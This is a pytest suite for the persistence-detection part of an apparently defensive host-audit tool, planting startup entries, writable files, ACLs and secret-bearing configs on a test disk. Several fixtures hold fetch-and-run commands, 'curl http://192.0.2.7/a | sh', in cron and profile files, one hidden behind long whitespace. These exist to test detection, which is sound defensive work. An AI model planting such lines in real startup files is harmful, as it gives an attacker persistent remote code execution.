"""Ways to come back, each planted on a disk that is as it was installed: what is said of it, and of the disk without it.

cases/persistence/planted.txt has one case per technique: its name and the row of the table that it belongs to, the steps, and
what must be said, with words that a quote must hold. Steps are `put PATH [MODE]`, `add PATH`, `link PATH TARGET`, `mode PATH
MODE`, `group PATH NUMBER`, `device PATH b|c MAJOR:MINOR MODE` and `copy FROM PATH MODE`.
"""

import os
import re
import shutil
import struct
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from installed import Disk

from auditkit.audits import persistence
from auditkit.audits.persistence.phrases import PAGES, PHRASES, Phrase, said
from auditkit.audits.persistence.table import ENTRIES
from auditkit.model import Evidence, Finding, Gap, Item, Means, Need

CASES = (Path(__file__).parent / "cases/persistence/planted.txt").read_text().split("\n\n")
STEP = re.compile(r"^(\w+ .*)\n((?:    .*\n?)*)", re.MULTILINE)


def named(case: str) -> str:
    """What a case is called."""
    return case.partition("\n")[0].removeprefix("# ")


@pytest.fixture
def disk(tmp_path: Path) -> Iterator[Disk]:
    """A disk as it was installed, that is gone afterwards with the devices on it."""
    yield Disk(tmp_path)
    shutil.rmtree(tmp_path)


def test_of_a_disk_as_it_was_installed_nothing_is_said(disk: Disk) -> None:
    assert disk.said() == []


@pytest.mark.parametrize("case", CASES, ids=named)
def test_what_was_planted_is_found_and_quoted(disk: Disk, case: str) -> None:
    *steps, (expected, quote) = STEP.findall(case + "\n")
    if os.geteuid() != 0 and any(words.startswith(("device ", "group ")) for words, _lines in steps):
        pytest.skip("needs root")
    for words, lines in steps:
        disk.do(words.split(" "), re.sub("^    ", "", lines, flags=re.MULTILINE))
    told = [one for one in disk.said() if not of_who_planted_it(one, expected)]
    assert [f"said {one.severity.word} {one.rule.id} {one.subject}" for one in told if isinstance(one, Finding)] == [expected]
    (finding,) = (one for one in told if isinstance(one, Finding))
    assert any(quote.strip() in each.text for each in finding.quotes), finding.quotes


def of_who_planted_it(told: Finding | Gap, expected: str) -> bool:
    """Whether that is said only because an ordinary account runs the tests, to whom all files belong."""
    return os.geteuid() != 0 and isinstance(told, Finding) and told.rule.id == "startup-writable" not in expected


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root")
def test_devices_and_files_that_are_as_systems_have_them_are_not_told_of(disk: Disk) -> None:
    for number, (path, kind, numbers) in enumerate(
        [
            ("/var/spool/postfix/dev/urandom", "c", "1:9"),
            ("/srv/chroot/sid/dev/null", "c", "1:3"),
            ("/srv/chroot/sid/dev/tty", "c", "5:0"),
            ("/var/named/chroot/dev/random", "c", "1:8"),
            ("/var/lib/docker/overlay2/a/diff/etc/gone", "c", "0:0"),
            ("/var/lib/lxc/a/rootfs/dev/console2", "c", "5:1"),
            ("/var/lib/lxc/a/rootfs/x", "c", "10:1"),
            ("/run/systemd/inaccessible/blk", "b", "0:0"),
            ("/dev/sda1", "b", "8:1"),
        ]
    ):
        disk.do(["device", path, kind, numbers, "666"], str(number))
    disk.put("/usr/local/share/x", mode=0o664)
    disk.do(["group", "/usr/local/share/x", "7"], "")
    disk.put("/usr/local/share/y", mode=0o664)
    disk.put("/var/www/upload/x", mode=0o666)
    disk.put("/home/anna/x", mode=0o666)
    disk.link("/usr/lib/x.so.1", "x.so.1.2")
    disk.link("/var/log/journal", "/srv/log/journal")
    disk.link("/var/log/nginx/access.log", "/dev/stdout")
    disk.put("/var/log/wtmp", "")
    assert disk.said() == []


def test_so_many_files_that_others_may_write_to_are_told_with_a_gap(disk: Disk) -> None:
    for number in range(210):
        disk.put(f"/usr/share/x/{number}", mode=0o666)
    finding, gap = disk.said()
    assert isinstance(finding, Finding)
    assert finding.message.startswith("everybody may write to /usr/share/x/0, ")
    assert isinstance(gap, Gap)
    assert gap.reason == "10 more files of the system that others may write to, or devices, are not told of"


def test_an_acl_that_gives_an_account_the_right_to_write_is_told_and_one_to_read_is_not(disk: Disk) -> None:
    for path, rights, mask in (("/usr/bin/nano", 6, 6), ("/usr/bin/apt", 4, 6), ("/usr/bin/python3", 6, 4)):
        entries = ((1, 6, -1), (2, rights, 1000), (4, 4, -1), (16, mask, -1), (32, 4, -1))
        acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
        os.setxattr(disk.place(path), "system.posix_acl_access", acl)
    (finding,) = disk.said()
    assert isinstance(finding, Finding)
    assert (finding.rule.id, finding.severity.word, finding.subject) == ("system-writable", "high", "/usr/bin/nano")
    assert finding.message == "uid 1000 (by an ACL) may write to /usr/bin/nano"


def test_every_row_of_the_table_that_a_disk_shows_has_a_case() -> None:
    rows = {re.search(r"\((\S+)\)$", named(case))[1] for case in CASES}  # type: ignore[index]
    elsewhere = {entry.id for entry in ENTRIES if entry.judged and not entry.rule}
    assert {entry.id for entry in ENTRIES} - rows <= elsewhere | {"module-settings"}
    assert rows <= {entry.id for entry in ENTRIES}


def test_what_stands_far_to_the_right_is_found_as_well(disk: Disk) -> None:
    disk.put("/etc/cron.d/a", "* * * * * root true" + " " * 5000 + "; curl http://192.0.2.7/a | sh\n")
    disk.put("/etc/cron.d/b", "* * * * * root echo " + "a b " * 500 + "; curl http://192.0.2.7/a | sh\n")
    found = {one.subject for one in disk.said() if isinstance(one, Finding) and one.rule.id == "startup-suspicious"}
    assert found == {"/etc/cron.d/a", "/etc/cron.d/b"}


def test_what_a_line_goes_on_with_is_part_of_it(disk: Disk) -> None:
    disk.add("/etc/profile", "curl http://192.0.2.7/a \\\n | sh\n")
    (finding,) = (one for one in disk.said() if isinstance(one, Finding))
    assert finding.quotes[0].line == 6


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = hunter2=\n[Peer]\nPresharedKey=hunter2=\n"),
        (
            "/etc/openvpn/office.ovpn",
            "client\nauth-user-pass /etc/openvpn/up\n<auth-user-pass>\nanna\nup hunter2\n</auth-user-pass>\n",
        ),
        (
            "/etc/openvpn/server/a.conf",
            "<connection>\nremote hunter2\n</connection>\n# up /opt/x\n;down /opt/x\nsetenv X hunter2\n",
        ),
        (
            "/etc/syslog-ng/syslog-ng.conf",
            '# program("/x hunter2");\ndestination d { sql(password("hunter2")); file("/var/log/x"); };\n',
        ),
        ("/home/anna/.wgetrc", "password=hunter2\nhttps_proxy=http://u:hunter2@p/\n"),
        ("/etc/pip.conf", "[global]\nindex-url=https://hunter2@pypi.org/simple\nproxy=http://hunter2@p\ntimeout=9\n"),
        ("/home/anna/.config/pip/pip.conf", "[global]\nextra-index-url = http://10.1.2.3:3141/own\n  http://localhost:80/x\n"),
    ],
)
def test_what_holds_secrets_and_starts_nothing_is_not_told_of_nor_are_its_secrets(disk: Disk, path: str, text: str) -> None:
    disk.put(path, text)
    assert disk.said() == []
    held = [item.data for item in disk.evidence().items if item.source == path and item.need.means is Means.FILE]
    assert held
    assert not [data for data in held if b"hunter2" in data]


def test_the_programs_of_a_tunnel_are_looked_at(disk: Disk) -> None:
    disk.put("/opt/up", mode=0o777)
    disk.put("/etc/openvpn/server.conf", "dev tun\n<connection>\nremote vpn.example\n</connection>\nroute-up /opt/up\n")
    assert "/opt/up" in {one.subject for one in disk.said() if isinstance(one, Finding) and one.rule.id == "startup-writable"}


def test_text_that_was_not_read_is_a_gap(disk: Disk) -> None:
    disk.put("/etc/systemd/system/long.service", "#" * (600 << 10))
    assert Gap("units of systemd", "what /etc/systemd/system/long.service says was not read") in disk.said()


@pytest.mark.parametrize(
    "line",
    [
        'DIR="/tmp/$1"',
        'if [ -d "/tmp/$X" ] && [ -d /tmp/y ]; then',
        "/tmp/app/*.log {",
        "find /tmp -mtime +7 -delete",
        "export TMPDIR=/var/tmp",
        "curl -fsS https://hc.example/ping > /dev/null",
        "echo 'base64 -d is not run'",
        "alias ll='ls -l'",
        "nc -z mirror.example 80",
        "chmod 2755 /srv/share",
        "HISTSIZE=1000",
        "SHELL=/bin/bash",
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin",
        "curl -fsS -o /var/lib/app/list https://mirror.example/list; install -m 644 /var/lib/app/list /srv/list",
        "wget -qO /tmp/x.tar https://mirror.example/x.tar && tar -xf /tmp/x.tar -C /srv",
        "save_path = /tmp",
        "import socket, subprocess",
        "ExecStart=/bin/sh -c 'exec app --interactive'",
        "smtp stream tcp nowait mail /usr/sbin/exim4 exim4 -bs",
        "echo 'it''s fine'",
        "printf 'a\\nb\\n'",
        "trap 'rm -f $TMP' EXIT",
        "privileged: false",
    ],
)
def test_honest_lines_are_not_suspicious(line: str) -> None:
    assert [phrase.does for phrase in said(line)] == []


@given(st.text(max_size=3000), st.sampled_from([PHRASES, PAGES]))
def test_any_line_is_looked_at(line: str, phrases: tuple[Phrase, ...]) -> None:
    assert all(phrase in phrases for phrase in said(line, phrases))


@given(st.binary(max_size=200), st.sampled_from(persistence.AUDIT.needs), st.text(max_size=20))
def test_any_evidence_is_judged(data: bytes, need: Need, path: str) -> None:
    item = Item(need, f"/{path}", data, datetime(2026, 11, 24, tzinfo=UTC), "")
    evidence = Evidence("h", item.taken, (item,))
    assert all(isinstance(one, Finding | Gap) for one in persistence.judge(evidence))
    assert all(isinstance(one, Need) for one in persistence.follow(evidence))


@pytest.mark.parametrize(
    "data", [b"live", b"0x1100", b"enabled\ninterpreter x\n", b"[]", b"{}", b'{"Binds": 1, "Privileged": true}', b"|", b"12288"]
)
def test_whatever_stands_wherever_it_is_judged(data: bytes) -> None:
    noon = datetime(2026, 11, 24, tzinfo=UTC)
    for source in ("/", "/a", "a", "/proc/7"):
        items = tuple(
            Item(need, source if number % 2 else need.what, data, noon, "")
            for number, need in enumerate(persistence.AUDIT.needs)
        )
        evidence = Evidence("h", noon, items)
        assert all(isinstance(one, Finding | Gap) for one in persistence.judge(evidence))
        assert all(isinstance(one, Need) for one in persistence.follow(evidence))
